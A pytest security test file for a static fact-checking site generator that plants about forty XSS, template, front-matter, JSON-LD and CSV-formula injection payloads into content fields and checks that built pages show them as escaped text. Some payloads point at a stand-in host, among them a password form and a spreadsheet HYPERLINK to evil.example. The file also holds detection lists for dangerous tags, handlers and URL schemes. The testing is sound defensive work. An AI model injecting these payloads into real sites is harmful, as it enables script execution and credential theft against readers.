"""Hostile content that passes ``factsite check``, built into a real site (issue 7).

Plain-text fields are not Markdown: whatever an editor writes there must reach readers as
visible text (lossless) and never as markup. The hostile tree below carries one attack per
field; the built site is parsed page by page (BeautifulSoup + lxml, never string greps) and
checked against an allow-list. See SECURITY.md for the threat model and
``tests/test_hostile_check.py`` for the content that ``factsite check`` refuses.
"""

from __future__ import annotations

import csv
import html
import json
import os
import re
import shutil
import tempfile
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import markdown as python_markdown
import pytest
import yaml
from bs4 import BeautifulSoup, Comment
from conftest import FIXTURE, BuiltSite, build_project, make_project, mkdocs
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from mkdocs.utils import meta

from benchmarks.bench_hostile import TINY_RECORDS
from generator import render
from generator.load import control_character
from generator.pipeline import build_graph
from generator.render.views import Views
from generator.sanitise import PAGE_ATTRIBUTES, PAGE_TAGS
from generator.search import indexed_pages_of

ROOT = Path(__file__).parents[1]

# -- the attacks ---------------------------------------------------------------------------------
# Each payload is unique (its number), so the test can tell which field leaked where.

PAYLOADS: dict[str, str] = {
    "script": "<script>alert('x01')</script>",
    "img-onerror": "\"><img src=x onerror=alert('x02')>",
    "close-script": "</script><script>alert('x03')</script>",
    "comment-open": "x04 <!-- the rest is hidden",
    "jinja": "{{ config.site_name }} {% raw %}x05 {# comment #}",
    "markdown-link": "[x06](javascript:alert(6))",
    "entities": "&lt;script&gt;x07&lt;/script&gt; &amp; &#60;b&#62;",
    "rtl-override": "x08 \u202egnp.exe\u202c file",
    "zero-width": "x\u200b09\u200d zero\u2060width",
    "long": "x10 " + "long " * 1000,
    "front-matter-breaker": "x11\n---\ntitle: pwned\nsearch:\n  exclude: true\n---",
    "svg-animate": "<svg><animate onbegin=alert('x12') attributeName=x dur=1s>",
    "javascript-text": "javascript:alert('x13')",
    "a-javascript": "<a href=\"javascript:alert('x14')\">x14</a>",
    "single-quote-breaker": "' onmouseover='alert(\"x15\")' x='",
    "attr-list": "x16 {: onclick=\"alert(16)\" }",
    "markdown-emphasis": "*x17* __bold__ `code` ~~del~~ \\escaped\\",
    "newline-block": "x18\n\n<iframe src=\"javascript:alert(18)\"></iframe>\n\n# heading",
    "template-literal": "${alert('x19')} #{x19}",
    "style": "<style>*{display:none}</style>x20",
    "backslash": "\\<script\\>x21\\",
    "mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert('x22')>",
    "percent": "%3Cscript%3Ex23%3C/script%3E",
    "table-pipes": "| x24 | cell |\n|---|---|\n| a | b |",
    "fake-reference": "[[claims/borduria-denies-involvement|x25]] [[x25]]",
    "base": "<base href=\"https://evil.example/\">x26",
    "meta-refresh": "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">x27",
    "form": "<form action=\"https://evil.example/\"><input name=password>x28</form>",
    "json-ld-breakout": "\"}]}</script><script>alert('x29')</script><!--",
    "markdown-link-tail": "](javascript:alert('x30')) <javascript:alert(30)>",
    "emoji": "x31 \U0001f600 \U0001d400 astral",
    "cdata": "<![CDATA[x32]]> <?php x32 ?>",
    "html-entity-js": "&#106;avascript:alert('x33')",
    "nul-looking": "x34 \\0 \\x00 \\u0000",
    "heading-hash": "# x35 not a heading",
    "autolink": "<https://evil.example/x36> <mailto:x36@evil.example>",
    "object": "<object data=\"x37.swf\"></object><embed src=\"x37\">",
    "colon-key": "x38: looks: like: yaml",
    "yaml-flow": "{x39: [1, 2]}",
    "csv-formula": "=HYPERLINK(\"https://evil.example/?x46\",\"x46 click\")",
    "svg-use": "<svg><use href=\"data:image/svg+xml,<svg id='x'><script>alert(40)</script>\""
               "></use></svg>",
}

SEED_ATTACK = "<script>alert('x41 seed')</script>"
"""Seeds are untrusted too: a quote verified against a hostile seed is shown escaped."""

INERT_MARKDOWN = ("Entities &lt;script&gt;alert('x42')&lt;/script&gt; and code "
                  "`<img src=x onerror=alert('x43')>` stay text; so does x44 "
                  "\\[not a link\\](javascript:alert(44)).")
"""Markdown fields pass ``factsite check`` only without raw HTML: what remains is inert."""


@dataclass(frozen=True)
class Planted:
    """A payload written into ``field`` of ``file``; it must be visible on ``page`` (``*``:
    on some page; ``….json``: in that export only)."""

    file: str
    field: str
    payload: str
    page: str


def q(text: str) -> str:
    """A YAML double-quoted scalar: a JSON string (JSON strings are YAML), UTF-8 kept as is
    except the characters YAML reads as line breaks or refuses raw."""
    quoted = json.dumps(text, ensure_ascii=False)
    return re.sub("[\x85\u2028\u2029\ufeff\ufffe\uffff]",
                  lambda m: f"\\u{ord(m.group()):04x}", quoted)


def hostile_tree(root: Path) -> list[Planted]:
    """Overlay the fixture at ``root`` with one payload per plain-text field."""
    chosen = {  # where a payload matters most; the others are dealt out in order
        ("content/site.yaml", "title"): "script",
        ("content/actors/borduria.yaml", "name"): "rtl-override",
        ("content/explainers/borduria-campaign.md", "title"): "emoji",
        ("content/pages/about.md", "title"): "attr-list",
        ("content/claims/borduria-denies-involvement.yaml", "claim"): "json-ld-breakout",
        ("content/claims/borduria-denies-involvement.yaml", "verdict"): "front-matter-breaker",
        ("content/tactics/fake-accounts.yaml", "name"): "jinja",
        ("content/sources/example-report.yaml", "title"): "close-script",
        ("content/actors/anna-weiss.yaml", "role"): "csv-formula",
    }
    pool = [key for key in PAYLOADS if key not in chosen.values()]
    planted: list[Planted] = []

    def take(file: str, field: str, page: str) -> str:
        payload = PAYLOADS[chosen.get((file, field)) or pool.pop(0)]
        planted.append(Planted(file, field, payload, page))
        return q(payload)

    def write(relative: str, text: str) -> None:
        (root / relative).write_text(text, encoding="utf-8")

    site = "content/site.yaml"
    write(site, f"""title: {take(site, "title", "data/")}
description: {take(site, "description", "")}
publisher:
  name: {take(site, "publisher.name", "*")}
  url: https://checks.example.org/
license:
  name: {take(site, "license.name", "data/")}
  url: https://creativecommons.org/licenses/by/4.0/
disarm_version: {take(site, "disarm_version", "tactics/fake-accounts/")}
ratings:
  - id: "false"
    label: "False"
    value: 1
    description: The claim is contradicted by the evidence.
  - id: misleading
    label: Misleading
    value: 2
    description: The claim is partly accurate but gives a false impression.
  - id: unproven
    label: {take(site, "ratings.2.label", "claims/borduria-denies-involvement/")}
    value: 3
    description: {take(site, "ratings.2.description", "data/factsite.json")}
  - id: "true"
    label: "True"
    value: 4
    description: The claim is supported by the evidence.
""")
    actor = "content/actors/borduria.yaml"
    write(actor, f"""name: {take(actor, "name", "actors/borduria/")}
kind: state
country: BG
role: {take(actor, "role", "actors/borduria/")}
description: {q(INERT_MARKDOWN)}
tags: [{take(actor, "tags.0", "data/factsite.json")}]
""")
    weiss = "content/actors/anna-weiss.yaml"
    write(weiss, f"""name: Anna Weiss
kind: person
role: {take(weiss, "role", "actors/anna-weiss/")}
country: RO
""")
    election = "content/elections/ruritania-general-2022.yaml"
    write(election, f"""name: {take(election, "name", "elections/ruritania-general-2022/")}
country: RO
region: {take(election, "region", "elections/ruritania-general-2022/")}
date: 2022-11
type: general
description: The general election that [[actors/anna-weiss]] said was targeted.
""")
    tactic = "content/tactics/fake-accounts.yaml"
    write(tactic, f"""name: {take(tactic, "name", "tactics/fake-accounts/")}
summary: {take(tactic, "summary", "tactics/fake-accounts/")}
category: information-manipulation
disarm: [T0143.002]
""")
    source = "content/sources/commission-website.yaml"
    write(source, f"""title: {take(source, "title", "sources/commission-website/")}
kind: official-statement
publisher: {take(source, "publisher", "sources/commission-website/")}
authors: [{take(source, "authors.0", "sources/commission-website/")}]
published: 2022
url: https://commission.example.org/?q=%3Cscript%3E&x=1
archived_url: https://web.archive.org/web/2022/https://commission.example.org/
""")
    seeded = "content/sources/example-report.yaml"
    write(seeded, f"""title: {take(seeded, "title", "sources/example-report/")}
kind: news-report
publisher: {take(seeded, "publisher", "sources/example-report/")}
authors: [Jo Reporter]
published: 2022-11-14
seed: example-report.txt
""")
    seed = root / "seeds" / "example-report.txt"
    seed.write_text(seed.read_text(encoding="utf-8") + f"\nA placard read {SEED_ATTACK}.\n",
                    encoding="utf-8")
    statement = "content/statements/commission-fake-sites.yaml"
    write(statement, f"""speaker: electoral-commission
date: 2022-11
form: paraphrase
text: {take(statement, "text", "statements/commission-fake-sites/")}
stated_confidence: {take(statement, "stated_confidence", "statements/commission-fake-sites/")}
figures:
  - label: {take(statement, "figures.0.label", "statements/commission-fake-sites/")}
    value: 3
    qualifier: at-least
    unit: {take(statement, "figures.0.unit", "statements/commission-fake-sites/")}
about:
  elections: [ruritania-general-2022]
  tactics: [fake-news-sites]
citations:
  - source: commission-count
    quote: at least 3 websites posing as local news outlets
    locator: {take(statement, "citations.0.locator", "statements/commission-fake-sites/")}
    note: {take(statement, "citations.0.note", "statements/commission-fake-sites/")}
  - source: example-report
    quote: {q(SEED_ATTACK)}
""")
    planted.append(Planted("seeds/example-report.txt", "quote", SEED_ATTACK,
                           "statements/commission-fake-sites/"))
    claim = "content/claims/borduria-denies-involvement.yaml"
    page = "claims/borduria-denies-involvement/"
    write(claim, f"""claim: {take(claim, "claim", page)}
claimant: borduria-foreign-ministry
claimed: 2022-11
appearances:
  - source: example-report
    quote: Borduria’s foreign ministry denied any involvement
    locator: {take(claim, "appearances.0.locator", page)}
rating: unproven
verdict: {take(claim, "verdict", page)}
analysis: {q(INERT_MARKDOWN)}
evidence:
  - statement: weiss-fake-accounts
  - source: example-report
    quote: ran a campaign to “cast doubt on the vote”
    note: {take(claim, "evidence.1.note", page)}
about:
  elections: [ruritania-general-2022]
  actors: [borduria]
published: 2022-12-01
reviewers: [{take(claim, "reviewers.0", page)}]
updates:
  - date: 2022-12-05
    kind: correction
    note: {q(INERT_MARKDOWN)}
""")
    explainer = "content/explainers/borduria-campaign.md"
    page = "explainers/borduria-campaign/"
    write(explainer, f"""---
title: {take(explainer, "title", page)}
summary: {take(explainer, "summary", page)}
published: 2022-12-02
authors: [{take(explainer, "authors.0", page)}]
about:
  elections: [ruritania-general-2022]
  actors: [borduria]
---
{INERT_MARKDOWN}

```html
<script>alert('x45 fenced')</script>
```
""")
    about = "content/pages/about.md"
    write(about, f"---\ntitle: {take(about, 'title', 'about/')}\n---\n{INERT_MARKDOWN}\n")
    methodology = "content/pages/methodology.md"
    write(methodology, f"---\ntitle: {take(methodology, 'title', 'methodology/')}\n---\n"
                       "We rate claims on the scale in site.yaml.\n")
    assert len(planted) >= 35
    return planted


# -- what a safe page looks like ---------------------------------------------------------------

URL_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "poster", "data",
                  "background", "cite", "srcset", "ping")
SAFE_SCHEMES = {"http", "https", "mailto"}
THEME_SCRIPT = re.compile(r"^(/|\./|(\.\./)*)assets/[\w./-]+\.js$")
"""The theme's own script files (Material's bundle and factsite.js), by relative ``src``."""
THEME_FORMS = {"md-header__option", "fs-search__form"}
"""Material's palette switch and the search box: the only forms, never inside the article."""
EMBEDDING = ("iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal")


def scheme_of(url: str) -> str | None:
    cleaned = "".join(ch for ch in html.unescape(url) if ch > " " and ch != "\x7f").lower()
    match = re.match(r"^([a-z][a-z0-9+.-]*):", cleaned)
    return match.group(1) if match else None


def page_files(site: Path) -> list[Path]:
    """Every page but ``admin/index.html``, the web editor's own page (tests/test_cms.py)."""
    return sorted(p for p in site.rglob("*.html") if p.relative_to(site).parts[0] != "admin")


def parse(path: Path) -> BeautifulSoup:
    return BeautifulSoup(path.read_text(encoding="utf-8"), "lxml")


def inline_script_key(text: str) -> str:
    """An inline script with the page's relative base path taken out."""
    return re.sub(r"(\.\./)+\.\.|(\.\./)+|\.\.(?=[\"/])|\\u002e\\u002e", "", text or "")


def theme_inline_scripts(site: Path) -> set[str]:
    """The inline scripts of a site built from the clean fixture: the theme's own."""
    return {inline_script_key(script.string or "") for path in page_files(site)
            for script in parse(path).find_all("script") if not script.get("src")
            and script.get("type") != "application/ld+json"}


def unsafe_in(soup: BeautifulSoup, theme_scripts: frozenset[str] = frozenset()) -> list[str]:
    """Every script, handler, dangerous URL or embedding element in a parsed page."""
    found = []
    for element in soup.find_all(True):
        name = element.name.lower()
        in_article = element.find_parent("article") is not None
        if name == "script":
            src = element.get("src")
            if element.get("type") == "application/ld+json" and not in_article:
                found += json_ld_problems(element.string or "")
            elif (src and (in_article or not THEME_SCRIPT.match(src))) or (
                    not src and inline_script_key(element.string or "") not in theme_scripts):
                found.append(f"script: {str(element)[:120]}")
        if name in EMBEDDING:
            found.append(f"embedding element: {str(element)[:120]}")
        if name == "meta" and element.get("http-equiv", "").lower() == "refresh":
            found.append(f"meta refresh: {element}")
        if name in ("form", "input", "button", "textarea", "select") and in_article:
            found.append(f"form control in the article: {str(element)[:120]}")
        if name == "form" and not THEME_FORMS.intersection(element.get("class", [])):
            found.append(f"form: {str(element)[:120]}")
        for attribute, value in element.attrs.items():
            values = value if isinstance(value, list) else [value]
            if attribute.lower().startswith("on"):
                found.append(f"event handler {attribute} on <{name}>")
            if attribute.lower() in URL_ATTRIBUTES:
                for item in values:
                    scheme = scheme_of(item)
                    if scheme is not None and scheme not in SAFE_SCHEMES:
                        found.append(f"{attribute}={item[:60]!r} on <{name}>")
            if attribute.lower() == "style" and re.search(r"url\(|expression|javascript",
                                                          " ".join(values), re.I):
                found.append(f"style with url/expression on <{name}>")
    return found


def json_ld_problems(text: str) -> list[str]:
    problems = []
    if "</script" in text.lower() or "<!--" in text:
        problems.append("JSON-LD contains </script or <!--")
    try:
        json.loads(text)
    except ValueError as exc:
        problems.append(f"JSON-LD does not parse: {exc}")
    return problems


def visible_text(soup: BeautifulSoup) -> str:
    """The article's text as a reader sees it (comments and scripts excluded)."""
    article = soup.select_one("article") or soup
    for hidden in article.find_all(["script", "style", "template"]):
        hidden.decompose()
    for permalink in article.select("a.headerlink"):
        permalink.decompose()
    for comment in article.find_all(string=lambda s: isinstance(s, Comment)):
        comment.extract()
    return " ".join(article.get_text(" ").split())


def squash(text: str) -> str:
    """Whitespace collapsed, as HTML shows it."""
    return " ".join(text.split())


# -- the built hostile site ----------------------------------------------------------------------


@dataclass
class HostileSite:
    built: BuiltSite
    planted: list[Planted]


@pytest.fixture(scope="module")
def hostile() -> Iterator[HostileSite]:
    folder = Path(tempfile.mkdtemp(prefix="factsite-hostile-"))
    try:
        project = make_project(folder / "project")
        planted = hostile_tree(project)
        yield HostileSite(build_project(project), planted)
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def test_hostile_tree_passes_the_checker(hostile: HostileSite) -> None:
    result = build_graph(hostile.built.root)
    assert result.ok(strict=True), [d.format() for d in result.diagnostics]
    assert len(PAYLOADS) + 3 >= 30


def test_no_page_carries_script_handlers_or_dangerous_urls(hostile: HostileSite,
                                                           built_site: BuiltSite) -> None:
    theme = frozenset(theme_inline_scripts(built_site.site))
    pages = page_files(hostile.built.site)
    assert len(pages) > 20
    problems = {str(path.relative_to(hostile.built.site)): unsafe_in(parse(path), theme)
                for path in pages}
    assert {page: found for page, found in problems.items() if found} == {}


def test_json_ld_blocks_are_escaped_and_parse(hostile: HostileSite) -> None:
    soup = hostile.built.html("claims/borduria-denies-involvement/")
    blocks = []
    for block in soup.find_all("script", type="application/ld+json"):
        assert json_ld_problems(block.string or "") == []
        data = json.loads(block.string or "")
        blocks += data if isinstance(data, list) else [data]
    claim_review = [b for b in blocks if b.get("@type") == "ClaimReview"]
    assert len(claim_review) == 1
    assert claim_review[0]["claimReviewed"] == PAYLOADS["json-ld-breakout"]


def test_attack_text_is_shown_escaped_not_dropped(hostile: HostileSite) -> None:
    """Lossless: readers see exactly what the editor wrote, as text (data-only fields are
    in the open data export)."""
    site = hostile.built.site
    data = json.dumps(json.loads((site / "data" / "factsite.json").read_text()),
                      ensure_ascii=False)
    missing = []
    for planted in hostile.planted:
        if planted.page.endswith(".json"):
            if json.dumps(planted.payload, ensure_ascii=False)[1:-1] not in data:
                missing.append(f"{planted.file} {planted.field}: not in {planted.page}")
            continue
        pages = ([parse(path) for path in page_files(site)] if planted.page == "*"
                 else [hostile.built.html(planted.page)])
        expected = squash(planted.payload)[:300]
        if not any(expected in visible_text(page) for page in pages):
            missing.append(f"{planted.file} {planted.field}: {planted.payload[:60]!r} "
                           f"is not visible on {planted.page or 'home'}")
    assert missing == []


def test_titles_reach_head_and_search_as_text(hostile: HostileSite) -> None:
    """<title>, meta description and the search index carry the text, escaped once.

    Pagefind's index holds plain text (the search shows it with ``textContent``), so the
    name must be there exactly as written: neither markup nor entities."""
    planted = {p.field: p for p in hostile.planted if p.file.endswith("borduria.yaml")}
    name = planted["name"].payload
    soup = hostile.built.html("actors/borduria/")
    assert squash(name) in squash(soup.title.get_text())
    pages = {page["url"]: page for page in indexed_pages_of(hostile.built.site / "pagefind")}
    actor = pages["/actors/borduria/"]
    assert squash(str(actor["meta"]["title"])) == squash(name)  # type: ignore[index]
    assert squash(name) in squash(str(actor["content"]))
    if html.escape(name) != name:
        assert all(html.escape(name) not in str(page["content"]) for page in pages.values())


def test_feed_and_exports_carry_no_markup(hostile: HostileSite) -> None:
    site = hostile.built.site
    feeds = list(site.rglob("*.xml"))
    for feed in feeds:
        if feed.name.startswith("sitemap"):
            continue
        tree = ET.parse(feed)
        for element in tree.iter():
            if element.get("type") == "html" and element.text:
                assert not unsafe_in(BeautifulSoup(element.text, "lxml")), feed
    for data in site.rglob("*.json"):
        json.loads(data.read_text(encoding="utf-8"))


CSV_FORMULA = ("=", "+", "@", "\t", "\r")
"""Cells starting with these run as formulas when a reader opens the CSV in a spreadsheet
(OWASP "CSV injection"); text cells should be prefixed with an apostrophe."""


def test_csv_exports_carry_no_formulas(hostile: HostileSite) -> None:
    formulas = []
    for path in sorted((hostile.built.site / "data").glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                formulas += [f"{path.name}: {cell[:50]}" for cell in row
                             if cell.startswith(CSV_FORMULA)]
    assert formulas == []


def test_output_stays_inside_the_site(hostile: HostileSite) -> None:
    root = hostile.built.root
    site = hostile.built.site
    for path in site.rglob("*"):
        assert not path.is_symlink()
        assert path.resolve().is_relative_to(site.resolve())
    outside = {p.relative_to(root).parts[0] for p in root.iterdir()}
    assert outside == {"content", "seeds", "theme", "mkdocs.yml", "site", ".cache"}
    cached = [p.relative_to(root).parent.as_posix() for p in (root / ".cache").rglob("*")
              if p.is_file()]  # the share-card cache (generator/cards.py), and nothing else
    assert set(cached) == {".cache/factsite/cards"}


# -- broken content: loud, and the previous site survives ---------------------------------------


def tree_bytes(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def test_broken_build_fails_loudly_and_keeps_the_previous_site(tmp_path: Path) -> None:
    project = make_project(tmp_path / "project")
    build_project(project)
    before = tree_bytes(project / "site")
    content_before = tree_bytes(project / "content") | tree_bytes(project / "seeds")
    claim = project / "content" / "claims" / "borduria-denies-involvement.yaml"
    claim.write_text(claim.read_text(encoding="utf-8").replace(
        "analysis: |", "analysis: |\n  <img src=x onerror=alert(1)>"), encoding="utf-8")
    result = mkdocs(project, "build", "--strict")
    assert result.returncode != 0
    output = result.stdout + result.stderr
    assert ("content/claims/borduria-denies-involvement.yaml:10:3: analysis: raw HTML (<img>) "
            "is not allowed in Markdown") in output
    assert tree_bytes(project / "site") == before
    after = tree_bytes(project / "content") | tree_bytes(project / "seeds")
    changed = {k for k in after if after.get(k) != content_before.get(k)}
    assert changed == {"claims/borduria-denies-involvement.yaml"}  # only our own edit


def test_build_never_writes_into_content_or_seeds(tmp_path: Path) -> None:
    project = make_project(tmp_path / "project")
    hostile_tree(project)
    snapshot = {p: (p.read_bytes(), p.stat().st_mtime_ns)
                for folder in ("content", "seeds") for p in (project / folder).rglob("*")
                if p.is_file()}
    build_project(project)
    assert snapshot == {p: (p.read_bytes(), p.stat().st_mtime_ns)
                        for folder in ("content", "seeds") for p in (project / folder).rglob("*")
                        if p.is_file()}
    assert not list(tmp_path.glob("*.html")) and sorted(os.listdir(tmp_path)) == ["project"]


def test_the_smallest_records_each_keep_their_page_and_address(tmp_path: Path) -> None:
    """The benchmark's tiny records (a megabyte of them is about 12,700 pages): valid, and
    each one, however little it says, gets its own page at its own address."""
    project = make_project(tmp_path / "project")
    written = []
    for kind, text in TINY_RECORDS.items():
        for number in (1, 2):
            suffix = "md" if text.startswith("---") else "yaml"
            (project / "content" / kind / f"tiny-{number}.{suffix}").write_text(text)
            written.append((kind, f"tiny-{number}"))
    site = build_project(project)
    for kind, record_id in written:
        address = record_id if kind == "pages" else f"{kind}/{record_id}"
        page = site.html(f"{address}/")
        assert page.find("h1") is not None, address
        assert page.find("link", rel="canonical")["href"].endswith(f"/{address}/"), address


# -- property-based: random text in every field, rendered the way MkDocs does -----------------

MKDOCS_CONFIG = yaml.safe_load((ROOT / "mkdocs.yml").read_text(encoding="utf-8")
                               .replace("!ENV", ""))
EXTENSIONS: list[Any] = []
EXTENSION_CONFIGS: dict[str, Any] = {}
for entry in MKDOCS_CONFIG.get("markdown_extensions", []):
    if isinstance(entry, dict):
        (name, options), = entry.items()
        EXTENSIONS.append(name)
        EXTENSION_CONFIGS[name] = options or {}
    else:
        EXTENSIONS.append(entry)

TEXT_FIELDS: list[tuple[str, str, str]] = [
    ("actors", "borduria", "name"), ("actors", "anna-weiss", "role"),
    ("elections", "ruritania-general-2022", "name"), ("tactics", "fake-accounts", "name"),
    ("tactics", "fake-accounts", "summary"), ("sources", "example-report", "title"),
    ("sources", "example-report", "publisher"), ("statements", "commission-fake-sites", "text"),
    ("statements", "commission-fake-sites", "stated_confidence"),
    ("claims", "borduria-denies-involvement", "claim"),
    ("claims", "borduria-denies-involvement", "verdict"),
    ("explainers", "borduria-campaign", "title"), ("explainers", "borduria-campaign", "summary"),
    ("pages", "about", "title"),
]
HOSTILE_ALPHABET = st.sampled_from([*"<>&\"'`=/:;()[]{}!*_#\\|%-~.\n\t xsjavcript",
    "<script>", "</script>", "<!--", "-->", "{{", "}}", "{%", "%}", "{:", "javascript:",
    " onerror=", "&lt;", "&#60;", "\u202e", "\u200b", "---", "\n\n", "    ", "[[", "]]",
    "](", "\U0001f600", "\u2028", "\x85", "&amp;"])
hostile_text = st.lists(HOSTILE_ALPHABET | st.characters(codec="utf-8", exclude_categories=(
    "Cc", "Cs")), min_size=1, max_size=40).map("".join).filter(lambda s: s.strip() != "")
loadable_text = hostile_text.filter(lambda s: control_character(s) is None)
"""What a content file may hold: the loader refuses control characters such as U+0085 even
when a YAML escape writes them (``factsite check`` says so, and the build stops)."""


def render_html(markdown_text: str) -> tuple[dict[str, Any], str]:
    """What MkDocs does with a page: front matter, then Python-Markdown with mkdocs.yml's
    extensions (the plugin's final sanitiser is deliberately left out: the render stage
    must be safe on its own)."""
    body, data = meta.get_data(markdown_text)
    converter = python_markdown.Markdown(extensions=EXTENSIONS,
                                         extension_configs=EXTENSION_CONFIGS)
    return data, converter.convert(body)


ALLOWED_EXTRA_ATTRIBUTES = {"href", "src", "id", "class", "title", "alt", "datetime", "scope",
                            "reversed", "start", "colspan", "rowspan", "align", "rel",
                            "aria-hidden", "aria-label", "role", "lang", "dir"}


def assert_on_allow_list(html_text: str) -> None:
    soup = BeautifulSoup(html_text, "lxml")
    for element in soup.find_all(True):
        if element.name in ("html", "body"):
            continue
        assert element.name in PAGE_TAGS, f"<{element.name}> in {html_text[:300]}"
        allowed = PAGE_ATTRIBUTES.get(element.name, set()) | PAGE_ATTRIBUTES["*"]
        for attribute in element.attrs:
            assert attribute in allowed or attribute.startswith("data-"), \
                f"{attribute} on <{element.name}>"
    assert not unsafe_in(soup)


def with_field(kind: str, record_id: str, name: str, value: str) -> Any:
    """A fresh fixture graph with one field of one record replaced."""
    graph = build_graph(FIXTURE).graph
    setattr(graph.records[kind][record_id], name, value)
    return graph


@settings(max_examples=100, deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])
@given(field=st.sampled_from(TEXT_FIELDS), value=hostile_text)
def test_any_text_in_any_field_renders_on_the_allow_list(field: tuple[str, str, str],
                                                         value: str) -> None:
    kind, record_id, name = field
    graph = with_field(kind, record_id, name, value)
    path = render.record_path(kind, record_id)
    for page in render.render_pages(graph):  # the record's page, indexes, home, timeline…
        page_data, page_body = render_html(page.markdown)
        assert page_data.get("title"), f"front matter lost: {page.markdown[:200]!r}"
        assert_on_allow_list(page_body)
        if page.path == path:
            data, body = page_data, page_body
    record = graph.records[kind][record_id]
    title = Views(graph).page_title(record)  # a claim's framed, a statement's attributed
    assert html.unescape(data["title"]) == title, "the title survives the head"
    assert squash(value)[:80] in visible_text(BeautifulSoup(body, "lxml")), \
        f"{value!r} is not shown on {path}"


FULL_BUILD_FIELDS: list[tuple[str, str]] = [
    ("content/actors/borduria.yaml", "role"), ("content/tactics/fake-accounts.yaml", "summary"),
    ("content/elections/ruritania-general-2022.yaml", "region"),
    ("content/sources/commission-website.yaml", "publisher"),
]
FULL_BUILD_PAGES = ["actors/borduria/", "tactics/fake-accounts/",
                    "elections/ruritania-general-2022/", "sources/commission-website/"]


@settings(max_examples=2, deadline=None, database=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(values=st.lists(loadable_text, min_size=len(FULL_BUILD_FIELDS),
                       max_size=len(FULL_BUILD_FIELDS)))
def test_random_text_survives_a_full_build(values: list[str], built_site: BuiltSite,
                                           tmp_path_factory: pytest.TempPathFactory) -> None:
    """Two real ``mkdocs build --strict`` runs with generated text in several fields."""
    project = make_project(tmp_path_factory.mktemp("random") / "project")
    for (relative, name), value in zip(FULL_BUILD_FIELDS, values, strict=True):
        path = project / relative
        text = path.read_text(encoding="utf-8")
        text = re.sub(rf"^{name}: .*$", "", text, flags=re.M) + f"{name}: {q(value)}\n"
        path.write_text(text, encoding="utf-8")
    built = build_project(project)
    theme = frozenset(theme_inline_scripts(built_site.site))
    for path in page_files(built.site):
        assert unsafe_in(parse(path), theme) == [], path
    for page, value in zip(FULL_BUILD_PAGES, values, strict=True):
        assert squash(value)[:80] in visible_text(built.html(page)), (page, value)


# -- in a real browser: nothing fires, nothing is injected by the theme's scripts -------------

INJECTED = ("img[src='x'], iframe, object, embed, base, svg animate, math, "
            "[onerror], [onload], [onbegin], [onmouseover], [onclick], a[href^='javascript']")


@pytest.mark.browser
def test_nothing_runs_in_a_browser(hostile: HostileSite) -> None:
    """Every page and Material's search results, in headless Chromium: no dialog opens
    and the theme's scripts (filters, search) inject no element from the content."""
    from browser_harness import ARGS, CHROMIUM, require

    require(Path(CHROMIUM), "Chromium (make chromium, or apt-get install chromium)")
    import functools
    import http.server
    import threading

    from playwright.sync_api import TimeoutError as PlaywrightTimeout
    from playwright.sync_api import sync_playwright

    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, format: str, *args: object) -> None:
            pass

    handler = functools.partial(Quiet, directory=str(hostile.built.site))
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    server = f"http://127.0.0.1:{httpd.server_address[1]}/"
    dialogs: list[str] = []
    try:
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
            page = browser.new_page(viewport={"width": 1280, "height": 900})
            page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
            injected = {}
            for path in page_files(hostile.built.site):
                url = server + path.relative_to(hostile.built.site).as_posix()
                page.goto(url.removesuffix("index.html"))
                page.wait_for_load_state("load")
                count = page.locator(INJECTED).count()
                if count:
                    injected[url] = count
            searched = 0
            for term in ("alert", "script", "onerror", "astral", "file", "heading"):
                page.goto(server)
                page.keyboard.press("/")
                page.locator("#fs-search-input").press_sequentially(term, delay=20)
                try:
                    page.locator(".fs-result").first.wait_for(timeout=8_000)
                except PlaywrightTimeout:
                    continue
                searched += 1
                if page.locator(INJECTED).count():
                    injected[f"search: {term}"] = page.locator(INJECTED).count()
            browser.close()
    finally:
        httpd.shutdown()
        httpd.server_close()
    assert dialogs == []
    assert injected == {}
    assert searched >= 3, "the payloads are found by search (and rendered as results)"
